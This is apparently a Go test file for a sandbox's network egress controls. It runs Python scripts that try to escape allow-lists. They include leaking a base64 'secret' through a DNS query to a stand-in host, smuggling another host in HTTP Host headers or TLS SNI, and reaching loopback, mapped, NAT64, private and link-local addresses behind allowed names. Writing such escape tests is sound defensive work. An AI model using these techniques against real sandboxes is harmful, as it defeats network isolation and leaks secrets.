package sandboxtest

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"sync"

	"loci/core"
)

// Network is the one outside of sandboxes, in which a name says what it leads to: loop8000.any.test to an address of the machine
// itself. Behind every address stands the machine's port that its last two bytes are.
type Network struct{}

// kinds are the addresses that names lead to, without the port.
func kinds() map[string]string {
	return map[string]string{
		"public": "93.184.0.0", "loop": "127.1.0.0", "private": "10.1.0.0", "link": "169.254.0.0", "mapped": "::ffff:127.1.0.0",
		"nat": "64:ff9b::7f01:0",
	}
}

// Lookup returns the address that a name says.
func (Network) Lookup(_ context.Context, host string) ([]netip.Addr, error) {
	label, _, _ := strings.Cut(host, ".")
	kind := strings.TrimRight(label, "0123456789")
	port, err := strconv.ParseUint(label[len(kind):], 10, 16)
	text, known := kinds()[kind]
	if err != nil || !known {
		return nil, fmt.Errorf("%s leads nowhere", host)
	}
	a := netip.MustParseAddr(text).As16()
	a[14], a[15] = byte(port>>8), byte(port)
	return []netip.Addr{netip.AddrFrom16(a)}, nil
}

// Dial connects to the machine's port behind an address.
func (Network) Dial(ctx context.Context, to netip.AddrPort) (net.Conn, error) {
	a := to.Addr().As16()
	var d net.Dialer
	if to.Addr() == netip.AddrFrom4([4]byte{127, 0, 0, 1}) { // a port of the machine itself, by its number
		return d.DialContext(ctx, "tcp", to.String())
	}
	return d.DialContext(ctx, "tcp", fmt.Sprintf("127.0.0.1:%d", int(a[14])<<8|int(a[15])))
}

// Own returns no addresses.
func (Network) Own() ([]netip.Addr, error) { return nil, nil }

// reaching is a job that may reach hosts below allowed.test, and everywhere one that may reach all there is.
func reaching(j *core.Job) {
	j.Profile = core.JobShell
	j.Network = &core.JobNetwork{Allows: func(host string, named bool) bool { return !named && strings.HasSuffix(host, ".allowed.test") }}
}

// asked is a job whose person allows hosts below allowed.test when they are asked, exactly as they are named, and nothing else.
func asked(j *core.Job) {
	var mu sync.Mutex
	allowed := map[string]bool{}
	j.Profile = core.JobShell
	j.Network = &core.JobNetwork{
		Allows: func(host string, _ bool) bool {
			mu.Lock()
			defer mu.Unlock()
			return allowed[host]
		},
		Ask: func(_ context.Context, a core.HostAsk) *core.JobRefusal {
			if !strings.HasSuffix(a.Host, ".allowed.test") {
				return &core.JobRefusal{Host: a.Host, Why: "the person does not allow it"}
			}
			mu.Lock()
			defer mu.Unlock()
			allowed[a.Host] = true
			return nil
		},
	}
}

func everywhere(j *core.Job) {
	j.Network.Allows = func(string, bool) bool { return true }
	j.Network.Ports = []uint16{443, 80, 22, 8080} // on the last, nothing that is said is judged
}

// granted are attempts of jobs that may reach some hosts.
func granted() []Attempt {
	const class = "network"
	const reach = `def reach(host, ports, say=b""):
    for port in ports:
        try:
            s = socket.create_connection((host, port), 5); s.sendall(say)
            if b"canary" in s.recv(64): print("ESCAPED")
        except OSError: pass
port = env["PORT"]
def request(host): return f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
def hello(host):
    import ssl
    sent = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname=host)
    try: tls.do_handshake()
    except ssl.SSLWantReadError: return sent.read()
`
	var all []Attempt
	for name, script := range map[string]string{
		"a host that no rule allows":          `h = f"public{port}.other.test"; reach(h, [80], request(h))`,
		"a host that no rule allows, by TLS":  `h = f"public{port}.other.test"; reach(h, [443], hello(h))`,
		"a question that carries a secret":    `socket.getaddrinfo("c2VjcmV0.other.test", 80); print("ESCAPED")`,
		"another host in the words of HTTP":   `reach(f"public{port}.allowed.test", [80, 8080], request("other.test"))`,
		"another host in the words of TLS":    `reach(f"public{port}.allowed.test", [443, 8080], hello("other.test"))`,
		"words of neither":                    `reach(f"public{port}.allowed.test", [443, 80, 8080], b"EHLO you\r\n\r\n")`,
		"the machine behind an allowed name":  `h = f"loop{port}.allowed.test"; reach(h, [80], request(h))`,
		"the machine behind a mapped address": `h = f"mapped{port}.allowed.test"; reach(h, [80], request(h))`,
		"the machine behind a translated one": `h = f"nat{port}.allowed.test"; reach(h, [80], request(h))`,
		"a private network behind a name":     `h = f"private{port}.allowed.test"; reach(h, [80], request(h))`,
		"the local link behind a name":        `h = f"link{port}.allowed.test"; reach(h, [80], request(h))`,
		"SSH of a host that no rule names":    `reach(f"public{port}.allowed.test", [22])`,
		"a port that isn't served":            `reach(f"public{port}.allowed.test", [8080])`,
	} {
		all = append(all, Attempt{Class: class, Name: name, Argv: py(reach + script), Job: reaching, Free: everywhere})
	}
	for name, script := range map[string]string{
		"a host that the person does not allow": `h = f"public{port}.other.test"; reach(h, [80], request(h))`,
		"one among many that ask": `import threading
many = [threading.Thread(target=reach, args=(f"public{port}.n{i}.test", [80], request(f"public{port}.n{i}.test"))) for i in range(24)]
[t.start() for t in many]; [t.join() for t in many]`,
		"another host behind the one that the person allowed": `reach(f"public{port}.allowed.test", [80, 8080], request("other.test"))`,
		"the machine behind a host that the person allowed":   `h = f"loop{port}.allowed.test"; reach(h, [80], request(h))`,
		"a private network behind one that they allowed":      `h = f"private{port}.allowed.test"; reach(h, [80], request(h))`,
		"a name below the one that they allowed": `h = f"public{port}.allowed.test"; socket.getaddrinfo(h, 80)
reach("public" + port + ".allowed.test.other.test", [80], request("public" + port + ".allowed.test.other.test"))`,
	} {
		all = append(all, Attempt{Class: class, Name: name, Argv: py(reach + script), Job: asked, Free: everywhere})
	}
	return append(all,
		Attempt{Class: class, Name: "a local port beside allowed hosts", Argv: py(reach + `reach("127.0.0.1", [port])`), Job: reaching},
		Attempt{Class: class, Name: "a packet beside allowed hosts", Argv: py(`s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2); s.sendto(b"x", ("127.0.0.1", int(env["UDP"])))
if s.recv(64) == b"canary": print("ESCAPED")`), Job: reaching},
	)
}
